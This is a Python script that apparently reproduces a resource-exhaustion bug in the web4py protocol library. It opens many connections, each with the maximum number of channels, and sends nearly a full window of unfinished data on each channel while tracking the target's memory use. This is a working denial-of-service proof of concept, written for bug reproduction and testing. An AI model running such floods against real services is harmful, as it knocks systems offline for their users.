"""Issue 20 item 3 reproduction: N connections, each opens max_channels channels and sends
1 MiB - 1 byte on each without FIN. Prints the target's RSS and how each connection ended."""
import hashlib, os, sys, time
sys.path.insert(0, sys.argv[1])  # web4py source dir (the attacker's RawPeer)
from web4py.rtt import frames as F
from web4py.rtt.identity import Identity
from web4py.rtt.rawpeer import CLOSED, TIMEOUT, RawPeer

host, port, pid, n = sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5])
def rss():
    for line in open("/proc/%d/status" % pid):
        if line.startswith("VmRSS"):
            return int(line.split()[1]) // 1024
print("RSS before: %d MB" % rss())
peers, outcomes = [], []
t0 = time.monotonic()
for c in range(n):
    me = Identity(hashlib.sha256(b"pin%d" % c).digest(), "pin%d" % c)
    p = RawPeer.connect((host, port), me).handshake()
    peers.append(p)
    ids = [0, 1, 2] + [4 + 2 * i for i in range(p.peer.max_channels - 3)]
    for cid in ids[3:]:
        p.send_frame(F.OPEN, cid, b"c%d" % cid)
    try:
        for cid in ids:
            p.send_message(cid, bytes(F.WINDOW - 1), fragments=17, fin=False)
    except OSError as e:
        outcomes.append("conn %d: send failed (%s)" % (c, e.__class__.__name__))
        continue
    print("conn %d sent %d x (1 MiB - 1); RSS %d MB" % (c, len(ids), rss()), flush=True)
time.sleep(2)
for c, p in enumerate(peers):
    f = p.await_frame(F.ERROR, timeout=1, skip=(F.DATA, F.CREDIT, F.ACK, F.OPEN_ACK, F.PING, F.PONG))
    what = F.parse_error_body(f.body).code if isinstance(f, F.Frame) else ("closed" if f is CLOSED else "open")
    outcomes.append("conn %d: %s" % (c, what))
print("RSS after: %d MB (%.1f s)" % (rss(), time.monotonic() - t0))
print("\n".join(outcomes))
